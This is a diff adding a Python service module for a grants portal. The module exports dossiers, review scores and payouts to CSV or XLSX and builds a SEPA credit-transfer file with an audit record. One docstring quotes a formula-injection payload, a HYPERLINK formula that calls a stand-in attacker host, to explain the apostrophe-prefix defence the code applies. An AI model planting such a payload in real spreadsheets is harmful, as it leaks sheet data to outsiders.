@@ -1,0 +1,353 @@
+"""Exports for officers and finance (dossiers, scores, payouts as CSV or XLSX) and the SEPA transfer file.
+
+Service layer: it reads rows and writes one audit row for a SEPA file; it never commits and never reads
+the request. States, kinds and exchange types are exported as the portal's stable codes (`granted`,
+`advance`), so that filters and formulas in a spreadsheet keep working whatever the page language.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Callable, Sequence
+from dataclasses import dataclass
+from datetime import date, datetime
+from decimal import ROUND_HALF_UP, Decimal
+from fractions import Fraction
+
+from flask import current_app
+from flask_babel import gettext as _
+from openpyxl import Workbook
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+from openpyxl.styles import Font
+from openpyxl.utils import get_column_letter
+from sepaxml import SepaTransfer
+from sqlalchemy import select
+from sqlalchemy.orm import aliased, contains_eager, selectinload
+
+from portal.extensions import db
+from portal.models import Application, Call, Organisation, Payout, Reservation, Review, User
+from portal.services import audit, reviews
+from workflows.calls import BRUSSELS
+from workflows.money import cents_to_decimal, format_belgian
+from workflows.payouts import PayoutKind, PayoutState
+from workflows.scoring import DossierScore, check_scores, weighted_total
+
+
+@dataclass(frozen=True)
+class Cents:
+    """An amount in cents: a number in XLSX, `1.234,56` in CSV, never escaped (we write it ourselves)."""
+
+    value: int
+
+
+# A cell: text (escaped), a whole number, an amount, a decimal (a mean score) or nothing.
+Cell = str | int | Cents | Decimal | None
+Table = tuple[list[str], list[list[Cell]]]
+
+
+# --- formula injection -------------------------------------------------------------------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(text: str) -> str:
+    """Text as a spreadsheet shows it, never as a formula it runs.
+
+    Excel and LibreOffice read a cell that starts with `=`, `+`, `-` or `@` (also after a tab or a
+    carriage return) as a formula: a government name or a reviewer's comment such as
+    `=HYPERLINK("https://evil.example?"&A1)` would run on the officer's machine and could leak the
+    sheet (CSV/formula injection, OWASP). A leading apostrophe makes the cell plain text.
+    """
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
+# --- the datasets ------------------------------------------------------------------------------
+
+
+def _moment(value: datetime | None) -> str | None:
+    return value.astimezone(BRUSSELS).strftime("%Y-%m-%d %H:%M") if value is not None else None
+
+
+def _day(value: date | None) -> str | None:
+    return value.isoformat() if value is not None else None
+
+
+def dossiers_table() -> Table:
+    """Every submitted dossier with its parties and its money, in one query (joins, no lazy loads)."""
+    giving = aliased(Organisation, name="giving")
+    receiving = aliased(Organisation, name="receiving")
+    rows = db.session.execute(
+        select(
+            Application.reference,
+            Call.code,
+            Application.state,
+            giving.name,
+            giving.nis_code,
+            receiving.name,
+            receiving.nis_code,
+            giving.province_name,
+            Application.exchange_type,
+            Application.theme_codes,
+            Application.submitted_at,
+            Application.requested_cents,
+            Reservation.reserved_cents,
+            Reservation.committed_cents,
+            Reservation.paid_cents,
+        )
+        .join(Call, Call.id == Application.call_id)
+        .join(giving, giving.id == Application.organisation_id)
+        .outerjoin(receiving, receiving.id == Application.receiving_organisation_id)
+        .outerjoin(Reservation, Reservation.application_id == Application.id)
+        .where(Application.submitted_at.is_not(None))
+        .order_by(Call.code, Application.submitted_at, Application.queue_number)
+    ).all()
+    headers = [
+        _("Referentie"), _("Oproep"), _("Status"), _("Gevend bestuur"), _("NIS-code gevend bestuur"),
+        _("Ontvangend bestuur"), _("NIS-code ontvangend bestuur"), _("Provincie gevend bestuur"), _("Vorm"),
+        _("Thema's"), _("Ingediend op"), _("Gevraagd"), _("Gereserveerd"), _("Vastgelegd"), _("Betaald"),
+        _("Openstaand"),
+    ]  # fmt: skip
+    table: list[list[Cell]] = []
+    for (reference, call_code, state, giving_name, giving_nis, receiving_name, receiving_nis, province, exchange,
+         themes, submitted_at, requested, reserved, committed, paid) in rows:  # fmt: skip
+        # No reservation row (yet): nothing reserved, committed or paid.
+        reserved, committed, paid = reserved or 0, committed or 0, paid or 0
+        table.append([
+            reference, call_code, state, giving_name, giving_nis, receiving_name, receiving_nis, province, exchange,
+            ", ".join(themes or []), _moment(submitted_at), Cents(requested or 0), Cents(reserved), Cents(committed),
+            Cents(paid), Cents(committed - paid),
+        ])  # fmt: skip
+    return headers, table
+
+
+def _two_places(value: Fraction) -> Decimal:
+    exact = Decimal(value.numerator) / Decimal(value.denominator)
+    return exact.quantize(Decimal("0.01"), rounding=ROUND_HALF_UP)
+
+
+def scores_table() -> Table:
+    """One row per criterion score of every submitted review (the long layout: any rubric fits).
+
+    Columns: the dossier's reference and call, the reviewer, when the review was submitted, the
+    criterion's code (its name may be edited later, the code stays), the score and its comment, the
+    review's general comment and weighted total, then the dossier's figures from its submitted reviews
+    (`reviews.score_of`): the mean weighted total, that mean as a percentage of the range, and whether
+    the dossier passes (threshold and minimum scores). Rows follow the call's rubric order; a score of a
+    criterion removed from the rubric since comes last and has no weighted total in it.
+    """
+    submitted = db.session.scalars(
+        select(Review)
+        .join(Review.application)
+        .join(Application.call)
+        .join(Review.reviewer)
+        .where(Review.submitted_at.is_not(None))
+        .options(
+            contains_eager(Review.application).contains_eager(Application.call).selectinload(Call.criteria),
+            contains_eager(Review.reviewer),
+            selectinload(Review.scores),
+        )
+        .order_by(Call.code, Application.submitted_at, Application.queue_number, Review.submitted_at, Review.id)
+    ).all()
+    headers = [
+        _("Referentie"), _("Oproep"), _("Beoordelaar"), _("Ingediend op"), _("Criterium"), _("Score"),
+        _("Commentaar bij het criterium"), _("Algemene commentaar"), _("Gewogen totaal van de beoordeling"),
+        _("Gemiddeld gewogen totaal van het dossier"), _("Dossier (% van het bereik)"),
+        _("Haalt de kwaliteitsdrempel en de minimumscores"),
+    ]  # fmt: skip
+    # The dossier's score asks reviews.score_of (one query per dossier), the one source of that rule.
+    dossier_scores: dict[int, DossierScore | None] = {}
+    table: list[list[Cell]] = []
+    for review in submitted:
+        application = review.application
+        if application.id not in dossier_scores:
+            dossier_scores[application.id] = reviews.score_of(application)
+        dossier = dossier_scores[application.id]
+        rubric = reviews.rubric_of(application.call)
+        order = {c.code: i for i, c in enumerate(rubric.criteria)}
+        values = {code: v for code, v in review.score_values().items() if code in order}
+        total = weighted_total(rubric, values) if not check_scores(rubric, dict(values)) else None
+        dossier_cells: list[Cell] = (
+            [_two_places(dossier.mean_total), _two_places(dossier.percent), _("ja") if dossier.passes else _("nee")]
+            if dossier is not None
+            else [None, None, None]
+        )
+        for score in sorted(review.scores, key=lambda s: (order.get(s.criterion_code, len(order)), s.criterion_code)):
+            table.append([
+                application.reference, application.call.code, review.reviewer.full_name, _moment(review.submitted_at),
+                score.criterion_code, score.score, score.comment, review.comment, total, *dossier_cells,
+            ])  # fmt: skip
+    return headers, table
+
+
+def payouts_table() -> Table:
+    """Every payout (also planned, failed and cancelled ones) with who prepared and approved it."""
+    preparer = aliased(User, name="preparer")
+    approver = aliased(User, name="approver")
+    found = db.session.scalars(
+        select(Payout)
+        .join(Payout.application)
+        .join(Application.organisation)
+        .join(preparer, Payout.prepared_by)
+        .outerjoin(approver, Payout.approved_by)
+        .options(
+            contains_eager(Payout.application).contains_eager(Application.organisation),
+            contains_eager(Payout.prepared_by.of_type(preparer)),
+            contains_eager(Payout.approved_by.of_type(approver)),
+        )
+        .order_by(Payout.prepared_at, Payout.id)
+    ).all()
+    headers = [
+        _("Nummer"), _("Referentie voor de bank"), _("Dossier"), _("Gevend bestuur"), _("Soort"), _("Status"),
+        _("Bedrag"), _("IBAN"), _("Voorbereid door"), _("Voorbereid op"), _("Goedgekeurd door"), _("Goedgekeurd op"),
+        _("Betaald op"), _("Bankreferentie"),
+    ]  # fmt: skip
+    return headers, [_payout_row(p) for p in found]
+
+
+def _payout_row(p: Payout) -> list[Cell]:
+    return [
+        p.id, p.end_to_end_id, p.application.reference, p.application.organisation.name, p.kind, p.state,
+        Cents(p.amount_cents), p.iban, p.prepared_by.full_name, _moment(p.prepared_at),
+        p.approved_by.full_name if p.approved_by else None, _moment(p.approved_at), _day(p.paid_on), p.bank_reference,
+    ]  # fmt: skip
+
+
+DATASETS: dict[str, Callable[[], Table]] = {"dossiers": dossiers_table, "scores": scores_table, "payouts": payouts_table}
+
+
+# --- the formats -------------------------------------------------------------------------------
+
+
+def _csv_text(cell: Cell) -> str:
+    if cell is None:
+        return ""
+    if isinstance(cell, Cents):
+        return format_belgian(cell.value)
+    if isinstance(cell, Decimal):
+        return str(cell).replace(".", ",")
+    if isinstance(cell, int):
+        return str(cell)
+    return neutralise(cell)
+
+
+def to_csv(table: Table) -> bytes:
+    """`;`-separated, UTF-8 with a BOM and CRLF line ends: what Excel in nl-BE opens without asking."""
+    headers, rows = table
+    out = io.StringIO()
+    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
+    writer.writerow([neutralise(h) for h in headers])
+    writer.writerows([_csv_text(cell) for cell in row] for row in rows)
+    return out.getvalue().encode("utf-8-sig")
+
+
+AMOUNT_FORMAT = "#,##0.00"
+MAX_WIDTH = 60
+
+
+def to_xlsx(table: Table, title: str) -> bytes:
+    """One sheet with a bold, frozen header row; amounts as numbers, text always stored as text."""
+    headers, rows = table
+    book = Workbook()
+    sheet = book.active
+    assert sheet is not None
+    sheet.title = title[:31]  # Excel's limit for a sheet name
+    widths = [len(h) for h in headers]
+    for column, header in enumerate(headers, start=1):
+        cell = sheet.cell(row=1, column=column, value=neutralise(header))
+        cell.font = Font(bold=True)
+    for row_number, row in enumerate(rows, start=2):
+        for column, value in enumerate(row, start=1):
+            cell = sheet.cell(row=row_number, column=column)
+            if isinstance(value, Cents):
+                cell.value = cents_to_decimal(value.value)
+                cell.number_format = AMOUNT_FORMAT
+                shown = format_belgian(value.value)
+            elif isinstance(value, Decimal):
+                cell.value = value
+                cell.number_format = "0.00"
+                shown = str(value)
+            elif isinstance(value, str):
+                # openpyxl refuses control characters XML cannot hold; typed text may contain them.
+                cell.value = neutralise(ILLEGAL_CHARACTERS_RE.sub("", value))
+                cell.data_type = "s"  # never a formula, whatever openpyxl would guess
+                shown = value
+            else:
+                cell.value = value
+                shown = "" if value is None else str(value)
+            widths[column - 1] = max(widths[column - 1], len(shown))
+    for column, width in enumerate(widths, start=1):
+        sheet.column_dimensions[get_column_letter(column)].width = min(width + 2, MAX_WIDTH)
+    sheet.freeze_panes = "A2"
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+# --- the SEPA credit-transfer file -------------------------------------------------------------
+
+# The remittance text the giving government reads on its statement: always Dutch, as its books are.
+REMITTANCE_KIND = {PayoutKind.ADVANCE: "voorschot", PayoutKind.BALANCE: "saldo"}
+
+
+class NothingToTransfer(Exception):
+    """No approved advance or balance: a transfer file would be empty (banks refuse those)."""
+
+
+def transferable_payouts() -> list[Payout]:
+    """Approved outgoing payouts (a recovery is money that comes in, never transferred by us)."""
+    return list(
+        db.session.scalars(
+            select(Payout)
+            .join(Payout.application)
+            .join(Application.organisation)
+            .where(Payout.state == PayoutState.APPROVED, Payout.kind.in_(tuple(REMITTANCE_KIND)))
+            .options(contains_eager(Payout.application).contains_eager(Application.organisation))
+            .order_by(Payout.id)
+        )
+    )
+
+
+def sepa_file(payouts: Sequence[Payout], execution_date: date, actor: User) -> bytes:
+    """A pain.001.001.03 file of the approved advances and balances among `payouts`, validated by its XSD.
+
+    The debtor is the administration's account from the configuration; every transfer goes to the
+    IBAN recorded on the payout, with its end-to-end id as the reference for both sets of books.
+    """
+    chosen = [p for p in payouts if p.state_enum is PayoutState.APPROVED and p.kind_enum in REMITTANCE_KIND]
+    if not chosen:
+        raise NothingToTransfer()
+    config = current_app.config
+    debtor = {
+        "name": config["SEPA_DEBTOR_NAME"],
+        "IBAN": config["SEPA_DEBTOR_IBAN"].replace(" ", "").upper(),
+        "batch": True,
+        "currency": "EUR",
+    }
+    if config.get("SEPA_DEBTOR_BIC"):  # optional within SEPA (IBAN only); an empty one would fail the XSD
+        debtor["BIC"] = config["SEPA_DEBTOR_BIC"]
+    # clean: the bank's character set (accents transliterated, names cut at 70 characters).
+    transfer = SepaTransfer(debtor, clean=True)
+    for payout in chosen:
+        transfer.add_payment(
+            {
+                "name": payout.application.organisation.name,
+                "IBAN": payout.iban,  # stored compact and checked (schwifty) when the dossier was filled in
+                "amount": payout.amount_cents,
+                "execution_date": execution_date,
+                "description": f"{payout.application.reference} {REMITTANCE_KIND[payout.kind_enum]}",
+                "endtoend_id": payout.end_to_end_id,
+            }
+        )
+    xml: bytes = transfer.export(validate=True)
+    audit.record(
+        actor, "payouts.sepa_exported", "sepa_file", transfer.msg_id,
+        details={
+            "message_id": transfer.msg_id,
+            "payout_ids": [p.id for p in chosen],
+            "execution_date": execution_date.isoformat(),
+            "total_cents": sum(p.amount_cents for p in chosen),
+        },
+    )  # fmt: skip
+    db.session.flush()
+    return xml
